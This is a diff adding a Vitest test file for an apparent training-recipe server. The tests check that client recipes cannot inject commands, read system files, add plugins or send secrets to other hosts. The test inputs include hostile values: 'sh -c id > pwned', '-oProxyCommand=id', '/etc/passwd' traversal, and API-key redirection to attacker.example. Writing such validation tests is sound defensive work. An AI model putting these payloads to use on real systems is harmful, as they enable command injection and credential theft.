@@ -1,0 +1,212 @@
+// biome-ignore-all lint/suspicious/noTemplateCurlyInString: they are references of the recipe, not of this file
+import { mkdir, writeFile } from 'node:fs/promises';
+import { join } from 'node:path';
+import { afterEach, describe, expect, it } from 'vitest';
+import type { Recipe } from '../../core/generated/simmer/control/v1/control.js';
+import { ControlHarness, recipeText, type ServerOptions } from './control-harness.js';
+
+let open: ControlHarness | undefined;
+afterEach(async () => {
+  await open?.[Symbol.asyncDispose]();
+  open = undefined;
+});
+
+async function start(options: ServerOptions = {}): Promise<ControlHarness> {
+  open = await ControlHarness.start(options);
+  return open;
+}
+
+async function problemsOf(harness: ControlHarness, recipe: Recipe | string) {
+  const given = typeof recipe === 'string' ? recipeText(recipe) : recipe;
+  return (await harness.client.validateRecipe({ recipe: given })).problems;
+}
+
+async function codesOf(harness: ControlHarness, recipe: Recipe | string): Promise<readonly string[]> {
+  return (await problemsOf(harness, recipe)).map(({ code }) => code);
+}
+
+const stages = 'stages:\n  pool: { uses: curation/generate-problems, with: { count: 10 } }\n';
+const trained = (trainer: object) =>
+  `name: x\ntrainers: { t: ${JSON.stringify({ uses: 'torch-trainer/torch', ...trainer })} }\n${stages}`;
+const torchrun = (options: object) => trained({ launcher: { uses: 'launchers/torchrun', with: options } });
+const graded = (grader: object) => `name: x
+${stages}  checked: { uses: curation/verify, with: { dataset: "\${{ stages.pool.dataset }}", grader: ${JSON.stringify(grader)} } }
+`;
+
+describe('what the machine would run or load', () => {
+  it.each([
+    [
+      'launchers/torchrun.nodeCommand',
+      torchrun({ nodes: 2, nodeCommand: ['sh', '-c', 'id > pwned; echo {command}', 'sh'] }),
+    ],
+    ['launchers/torchrun.hosts', torchrun({ nodes: 2, hosts: ['-oProxyCommand=id'] })],
+    ['launchers/torchrun.arguments', torchrun({ arguments: ['--no-python', 'touch', 'pwned2'] })],
+    ['launchers/torchrun.rendezvous', torchrun({ nodes: 2, rendezvous: 'attacker.example:1' })],
+    ['torch-trainer/torch.python', trained({ with: { python: 'sh' } })],
+    ['torch-trainer/torch.accelerateConfig', trained({ with: { accelerateConfig: 'accelerate.yaml' } })],
+    ['eval/math-verify.python', graded({ uses: 'eval/math-verify', with: { python: 'sh' } })],
+    [
+      'torch-trainer/base-model.python',
+      'name: x\nstages: { base: { uses: torch-trainer/base-model, with: { source: "hf://a/b@0", python: sh } } }',
+    ],
+  ])('is no client’s to say: %s', async (option, text) => {
+    const harness = await start();
+    const refused = (await problemsOf(harness, text)).filter(({ code }) => code === 'option_not_allowed');
+    expect(refused).toMatchObject([
+      {
+        hint: expect.stringContaining(`--allow-option ${option},`),
+        position: { file: 'my.yaml', line: expect.any(Number), column: expect.any(Number) },
+        path: expect.stringMatching(new RegExp(`\\.${option.split('.')[1]}$`)),
+      },
+    ]);
+    await expect(harness.client.createRun({ requestId: 'r', recipe: recipeText(text) })).rejects.toMatchObject({
+      code: 'invalid_recipe',
+    });
+  });
+
+  it('may be the default, and may be given where the owner allows it', async () => {
+    const harness = await start({ allowedOptions: ['launchers/torchrun.hosts'] });
+    expect(await codesOf(harness, torchrun({ processesPerNode: 2 }))).not.toContain('option_not_allowed');
+    expect(await codesOf(harness, torchrun({ nodes: 2, hosts: ['b'] }))).not.toContain('option_not_allowed');
+    expect(await codesOf(harness, torchrun({ arguments: [] }))).toContain('option_not_allowed');
+  });
+
+  it('cannot be brought in by a param, nor beside the text', async () => {
+    const harness = await start();
+    const text = trained({ with: { python: '${{ params.python }}' } }).replace(
+      'name: x',
+      'name: x\nparams: { python: }',
+    );
+    expect(await codesOf(harness, recipeText(text, { params: { python: 'sh' } }))).toContain('option_not_allowed');
+    const overrides = { 'trainers.t.with.python': 'sh' };
+    expect(await codesOf(harness, recipeText(trained({}), { overrides }))).toContain('option_not_allowed');
+  });
+});
+
+describe('a recipe of the owner', () => {
+  const owners = `name: x
+params: { program: python3, count: 10, file: rows.jsonl }
+trainers: { t: { uses: torch-trainer/torch, with: { python: "\${{ params.program }}" } } }
+stages:
+  pool: { uses: curation/generate-problems, with: { count: "\${{ params.count }}" } }
+  loaded: { uses: curation/load, with: { sources: { rows: { path: "\${{ params.file }}" } } } }
+  checked:
+    uses: curation/verify
+    with:
+      dataset: "\${{ stages.pool.dataset }}"
+      grader: { uses: eval/judge, with: { url: "https://api.example.com/v1", apiKeyVariable: MYAUTH, model: m } }
+`;
+  async function startWithRecipe() {
+    const harness = await start();
+    const recipes = join(harness.folder, 'recipes');
+    await mkdir(recipes);
+    await writeFile(join(recipes, 'owners.yaml'), owners);
+    await writeFile(join(recipes, 'rows.jsonl'), '{"question":"1 + 1?","answer":"2"}\n');
+    await harness.stop();
+    await harness.serve({ recipeFolders: [recipes] });
+    return harness;
+  }
+  const named = (given: Partial<Recipe> = {}) => ({
+    source: { $case: 'name', value: 'owners' } as const,
+    fileName: '',
+    params: {},
+    overrides: {},
+    ...given,
+  });
+  const judge = 'stages.checked.with.grader.with';
+
+  it('may say all of this by itself, and clients may change the rest of it', async () => {
+    const harness = await startWithRecipe();
+    expect(await codesOf(harness, named())).toEqual([]);
+    expect(await codesOf(harness, named({ params: { count: '5' }, overrides: { [`${judge}.model`]: 'n' } }))).toEqual(
+      [],
+    );
+  });
+
+  it.each([
+    ['option_not_allowed', { params: { program: 'sh' } }],
+    ['option_not_allowed', { overrides: { 'trainers.t.with.python': 'sh' } }],
+    ['option_not_allowed', { overrides: { 'trainers.t.with': '{ python: sh }' } }],
+    [
+      'option_not_allowed',
+      { overrides: { 'trainers.t.launcher': '{ uses: launchers/torchrun, with: { hosts: [a] } }' } },
+    ],
+    ['path_not_allowed', { params: { file: '/etc/passwd' } }],
+    ['path_not_allowed', { overrides: { 'stages.loaded.with.sources.rows.path': '../../etc/passwd' } }],
+    ['plugin_not_allowed', { overrides: { plugins: '[{ command: [sh, -c, id] }]' } }],
+    ['secret_not_allowed', { overrides: { [`${judge}.url`]: 'http://attacker.example' } }],
+    ['secret_not_allowed', { overrides: { [`${judge}.apiKeyVariable`]: 'OTHER' } }],
+    ['secret_not_allowed', { overrides: { [judge]: '{ url: "http://a.example", apiKeyVariable: MYAUTH, model: m }' } }],
+  ])('is held to %s in what a client gives beside it: %j', async (code, given) => {
+    const harness = await startWithRecipe();
+    expect(new Set(await codesOf(harness, named(given)))).toEqual(new Set([code]));
+  });
+});
+
+describe('a secret of the server', () => {
+  const asking = (options: object) =>
+    `name: x\n${stages}  asked: { uses: curation/distill, with: ${JSON.stringify({ dataset: '${{ stages.pool.dataset }}', model: 'm', ...options })} }\n`;
+  const attack = { url: 'http://attacker.example/v1', apiKeyVariable: 'MYAUTH' };
+
+  it.each([
+    ['curation/distill', asking(attack)],
+    ['eval/judge', graded({ uses: 'eval/judge', with: { ...attack, model: 'm' } })],
+    [
+      'budget-forcing/openai-compatible',
+      `name: x\n${stages}  asked: { uses: budget-forcing/openai-compatible, with: ${JSON.stringify({ ...attack, model: 'm', problems: '${{ stages.pool.dataset }}' })} }\n`,
+    ],
+  ])('is not sent where a client says, by %s', async (_uses, text) => {
+    const harness = await start();
+    const refused = (await problemsOf(harness, text)).filter(({ code }) => code === 'secret_not_allowed');
+    expect(refused).toMatchObject([
+      {
+        message: expect.stringContaining('variable MYAUTH to http://attacker.example/v1.'),
+        hint: expect.stringContaining('--allow-secret MYAUTH=http://attacker.example/v1'),
+        position: { file: 'my.yaml', line: 4, column: expect.any(Number) },
+      },
+    ]);
+  });
+
+  it('is sent where its owner allows it', async () => {
+    const harness = await start({ allowedSecrets: ['MYAUTH=https://api.example.com/v1'] });
+    const url = 'https://api.example.com/v1';
+    expect(await codesOf(harness, asking({ ...attack, url }))).toEqual([]);
+    expect(await codesOf(harness, asking(attack))).toContain('secret_not_allowed');
+    expect(await codesOf(harness, asking({ url, apiKeyVariable: 'PATH' }))).toContain('secret_not_allowed');
+  });
+
+  it('is never the server’s own', async () => {
+    await expect(start({ allowedSecrets: ['SIMMER_SERVER_TOKEN'] })).rejects.toMatchObject({ code: 'wrong_secret' });
+    const harness = await start();
+    const [problem] = await problemsOf(harness, asking({ ...attack, apiKeyVariable: 'SIMMER_SERVER_TOKEN' }));
+    expect(problem).toMatchObject({
+      code: 'secret_not_allowed',
+      hint: expect.stringContaining('for the server alone'),
+    });
+  });
+
+  it('is given to a plugin only where it may be sent anywhere', async () => {
+    const harness = await start({
+      allowedPlugins: ['some-plugin'],
+      allowedSecrets: ['FREE', 'BOUND=https://a.example'],
+    });
+    const listing = (plugin: object) =>
+      `name: x\nplugins: [${JSON.stringify({ plugin: 'some-plugin', ...plugin })}]\n${stages}`;
+    expect(await codesOf(harness, listing({ secrets: ['FREE'] }))).toEqual(['plugin_not_found']);
+    for (const secret of ['BOUND', 'OTHER', 'SIMMER_SERVER_TOKEN'])
+      expect(await codesOf(harness, listing({ secrets: [secret] }))).toEqual(['secret_not_allowed']);
+    expect(await codesOf(harness, listing({ secrets: ['FREE'], limits: {} }))).toEqual(['plugin_not_allowed']);
+  });
+});
+
+it('a file of a client’s recipe that is not there is looked for on the server, and the client is told how it gets there', async () => {
+  const harness = await start();
+  const [problem] = await problemsOf(
+    harness,
+    'name: x\nstages: { a: { uses: curation/load, with: { sources: { rows: { path: rows.jsonl } } } } }',
+  );
+  expect(problem).toMatchObject({
+    code: 'missing_file',
+    hint: expect.stringMatching(/^The server looks below .*\/server\/recipes, .* --allow-root /),
+  });
+});
